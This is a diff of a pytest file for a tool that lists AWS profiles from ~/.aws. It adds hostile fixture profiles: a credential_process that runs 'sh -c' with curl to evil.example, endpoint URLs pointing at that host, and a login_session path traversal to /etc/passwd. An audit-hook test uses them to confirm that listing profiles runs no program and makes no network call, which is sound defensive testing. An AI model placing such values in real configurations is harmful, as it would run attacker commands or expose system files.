@@ -1,11 +1,13 @@
 """Profiles found in ~/.aws."""
 
+import sys
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-from snapshot_importer.accounts.shared import SharedProfiles, shared_profiles
+from snapshot_importer.accounts.shared import SharedProfiles, Surprise, shared_profiles
+from snapshot_importer.accounts.sources import SsoSession
 
 CONFIG = """
 [default]
@@ -92,6 +94,42 @@ aws_access_key_id = AKIAIOSFODNN7EXAMPLE
 aws_secret_access_key = geheim
 """
 
+ODD = """
+[profile odd]
+endpoint_url = http://evil.example
+ca_bundle = /tmp/ca.pem
+services = others
+credential_process = run --password geheim
+web_identity_token_file = /tmp/token
+
+[profile plain]
+region = eu-central-1
+
+[services others]
+s3 =
+  endpoint_url = http://evil.example/s3
+  more = 1
+"""
+HOSTILE = """
+[profile evil]
+credential_process = sh -c 'touch /tmp/never; curl http://evil.example'
+[profile evil-web]
+role_arn = arn:aws:iam::111122223333:role/Operator
+web_identity_token_file = /dev/stdin
+[profile evil-login]
+login_session = ../../../../etc/passwd
+[profile evil-imds]
+role_arn = arn:aws:iam::111122223333:role/Operator
+credential_source = Ec2InstanceMetadata
+[profile evil-sso]
+sso_account_id = 111122223333
+sso_role_name = Reader
+sso_start_url = https://evil.example
+sso_region = eu-central-1
+"""
+DEEDS = ("subprocess", "os", "socket", "http", "urllib", "webbrowser", "open", "shutil")  # audit events
+NO_CREDENTIALS = {"AWS_SHARED_CREDENTIALS_FILE": "/none"}
+
 Reader = Callable[[str, str], SharedProfiles]
 
 
@@ -139,14 +177,10 @@ def test_what_cannot_be_used_says_why(read: Reader) -> None:
 
     assert reasons == {
         "default": "The profile default holds no credentials.",
-        "mfa": "The profile mfa needs an MFA code, which this version does not ask for.",
-        "behind mfa": "The profile mfa needs an MFA code, which this version does not ask for.",
         "loop": "The profile loop is its own source.",
         "pool": "The profile pool is its own source.",
-        "lost": "There is no profile gone in ~/.aws.",
+        "lost": "The profile lost takes its keys from the profile gone, which is not in ~/.aws.",
         "inside": "The profile inside takes its keys from inside AWS, which works only there.",
-        "program": "The profile program gets its keys from a program, which this version does not run.",
-        "login": "The profile login signs in with “aws login”, which this version does not support.",
     }
 
 
@@ -157,39 +191,65 @@ def test_a_region_of_one_file_and_keys_of_the_other_make_one_profile(read: Reade
 
 
 @pytest.mark.parametrize(
-    ("broken", "line"),
+    ("environment", "region"),
     [
-        ("aws_secret_access_key = geheim\n", "line 1 of "),
-        ("[a]\nregion = x\nregion = y\n", "line 3 of "),
-        ("[a]\n[a]\n", "line 2 of "),
-        ("[a]\nregion\n", "line 2 of "),
+        ({}, ""),
+        ({"AWS_DEFAULT_REGION": "us-west-1"}, "us-west-1"),
+        ({"AWS_REGION": "us-west-2", "AWS_DEFAULT_REGION": "us-west-1"}, "us-west-2"),
     ],
+    ids=["none", "default", "both"],
 )
-def test_a_broken_file_is_named_with_its_line_and_the_other_stays_usable(
-    read: Reader, tmp_path: Path, broken: str, line: str
+def test_a_profile_without_a_region_has_that_of_the_environment(
+    read: Reader, tmp_path: Path, environment: dict[str, str], region: str
 ) -> None:
-    found = read(broken, CREDENTIALS)
+    read("[profile a]\n[profile b]\nregion = eu-west-1\n", "")
 
-    assert found.notices == (f"The AWS settings cannot be understood: {line}{tmp_path / 'config'}.",)
-    assert [profile.name for profile in found.profiles] == ["keys", "self"]
+    found = shared_profiles(environment | {"AWS_CONFIG_FILE": str(tmp_path / "config")} | NO_CREDENTIALS)
+
+    assert [profile.region for profile in found.profiles] == [region, "eu-west-1"]
 
 
-def test_a_file_that_is_no_text_is_named(read: Reader, tmp_path: Path) -> None:
-    (tmp_path / "config").write_bytes(b"\xff\xfe\x00[a]")
+def test_what_is_odd_about_a_profile_is_listed(read: Reader) -> None:
+    (odd, plain) = read(ODD, "").profiles
 
-    found = shared_profiles(
-        {"AWS_CONFIG_FILE": str(tmp_path / "config"), "AWS_SHARED_CREDENTIALS_FILE": "/none"}
+    assert plain.surprising == ()
+    assert odd.surprising == (
+        Surprise("endpoint_url", "http://evil.example"),
+        Surprise("ca_bundle", "/tmp/ca.pem"),
+        Surprise("services", "others"),
+        Surprise("credential_process", "run --password geheim"),
+        Surprise("web_identity_token_file", "/tmp/token"),
+        Surprise("services: s3", "endpoint_url = http://evil.example/s3, more = 1"),
     )
-
-    assert found.profiles == ()
-    assert str(tmp_path / "config") in found.notices[0]
+    assert "geheim" not in repr(odd)
 
 
-def test_no_notice_shows_a_line_of_the_file(read: Reader) -> None:
-    found = read("[a]\naws_secret_access_key geheim\n", "geheim\n")
+def test_sessions_of_identity_center_are_listed_if_they_can_be_used(read: Reader) -> None:
+    found = read(CONFIG + "[sso-session half]\nsso_region = eu-central-1\n", "")
 
-    assert len(found.notices) == 2
-    assert "geheim" not in " ".join(found.notices)
+    assert found.sso_sessions == (SsoSession("https://corp.example", "eu-central-1", "corp"),)
+
+
+def test_listing_runs_opens_and_asks_nothing(read: Reader, tmp_path: Path) -> None:
+    read(CONFIG + HOSTILE, CREDENTIALS)
+    paths = {
+        "AWS_CONFIG_FILE": str(tmp_path / "config"),
+        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "credentials"),
+    }
+    events: list[str] = []
+    armed = [True]
+
+    def notice(event: str, arguments: tuple[object, ...]) -> None:
+        if armed and event.partition(".")[0] in DEEDS:
+            events.append(f"{event} {arguments[0] if arguments else ''}")
+
+    sys.addaudithook(notice)  # for the rest of the process, where it is deaf
+    try:
+        shared_profiles(paths)
+    finally:
+        armed.clear()
+
+    assert events == [f"open {path}" for path in paths.values()]
 
 
 def test_no_files_are_no_profiles() -> None:
